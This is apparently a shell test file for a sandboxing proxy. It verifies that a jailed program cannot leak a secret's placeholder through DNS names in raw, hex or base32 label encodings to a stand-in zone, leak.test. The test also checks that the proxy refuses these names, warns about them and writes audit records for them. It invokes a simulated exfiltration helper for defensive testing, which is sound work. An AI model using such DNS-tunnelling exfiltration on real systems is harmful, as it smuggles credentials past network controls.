#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
#
# secret_dns.t: a secret's placeholder sent out through DNS, as root. The jailed program holds
# only the placeholder of --secret's credential; a name that carries it (a raw label, hex split
# across two labels, base32 over TCP) is a way out no HTTP rule sees: whoever serves the zone
# reads the labels. Each is answered NXDOMAIN though the rules allow the zone and --use-real-dns
# would forward it, is a warning naming the process and the secret, and a "deny" record; the
# host's resolver (a fake one of ours on 127.0.0.78, as in realdns.t) receives only the control
# name. The secret's value is nowhere in the output, log or audit log.
. "$(dirname "$0")/../lib/tap.sh"
. "$(dirname "$0")/../lib/jail.sh"
. "$(dirname "$0")/../lib/proxy.sh"
proxy_suite --no-testhost
echo "nameserver 127.0.0.78" >"$UP/resolv.conf"

# The fake host resolver: answers every A query, logs "PROTO TYPE NAME" to $UP/dns.log.
host_resolver_up 127.0.0.1 ::1

VALUE="dns-value-$RANDOM$RANDOM-never-shown"
export API_TOKEN=$VALUE
AUD=$TMPDIR_T/audit.jsonl
bnd --use-real-dns --audit-log "$AUD" --secret "API_TOKEN domain=api.up.test" \
	--allow "domain=*.leak.test" -- python3 "$STAGE/lib/secret_leak.py" dns API_TOKEN leak.test
unset API_TOKEN

want OK NOERROR "control: an ordinary name of the allowed zone is answered"
check "control: and went to the host's resolver" grep -q "udp A ok.leak.test" "$UP/dns.log"
want RAW NXDOMAIN "the placeholder as a raw label: NXDOMAIN"
want HEX NXDOMAIN "the placeholder in hex across two labels: NXDOMAIN"
want B32 NXDOMAIN "the placeholder in base32 across two labels, over TCP: NXDOMAIN"
check "the host's resolver received none of those names" [ "$(grep -c leak.test "$UP/dns.log")" = 1 ]
logged "a warning names the process and the secret" "$log" \
	"warn: DNS A [^ ]+ from python3\\[[0-9]+\\]: the name carries the placeholder of secret API_TOKEN: refused \\(NXDOMAIN\\)"
deny=$(grep '"reason":"secret API_TOKEN sent in a DNS name"' "$AUD")
check "audit: a deny record for each of the three names" [ "$(grep -c . <<<"$deny")" = 3 ]
contains "audit: decision deny, kind dns" "$(head -1 <<<"$deny")" '"decision":"deny","kind":"dns"'
contains "audit: naming the process" "$(head -1 <<<"$deny")" '"comm":"python3"'
check "the secret's value is not in the output" not grep -qF "$VALUE" <<<"$out"
check "nor in boundary's log" not grep -qF "$VALUE" <<<"$log"
check "nor in the audit log" not grep -qF "$VALUE" "$AUD"

done_testing
